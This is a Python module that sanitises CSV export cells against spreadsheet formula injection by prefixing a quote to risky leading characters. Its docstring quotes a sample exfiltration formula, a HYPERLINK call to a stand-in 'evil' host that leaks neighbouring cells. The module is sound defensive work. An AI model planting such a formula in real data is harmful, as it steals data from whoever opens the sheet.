"""CSV cells that a spreadsheet will not run as formulas (CSV / formula injection).

Exports hold text that clients wrote (prompts, failure reasons). Excel, LibreOffice and Google
Sheets treat a cell that begins with `=`, `+`, `-` or `@` as a formula, and a leading tab or
carriage return can hide such a start; `=HYPERLINK("https://evil/?"&A1, "open")` in a prompt
would then leak the auditor's neighbouring cells or run DDE. OWASP's advice, followed here:
prefix such a cell with a single quote, which spreadsheets show as text. The value stays
readable, and the JSON Lines export keeps the exact text for machines.

One function, used by every CSV the service writes (`/v1/audit/export?format=csv`, the console
export and `credence audit export`), so that no path forgets it.
"""

from __future__ import annotations

from typing import Any

#: First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """`value`, with a leading `'` when it is text that a spreadsheet would run as a formula.

    Numbers are left alone (a negative number is data, not a formula); only strings are text a
    client may have written.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(values: Any) -> list[Any]:
    """Every cell of a row through `neutralise_cell`."""
    return [neutralise_cell(value) for value in values]


__all__ = ["FORMULA_STARTS", "neutralise_cell", "neutralise_row"]
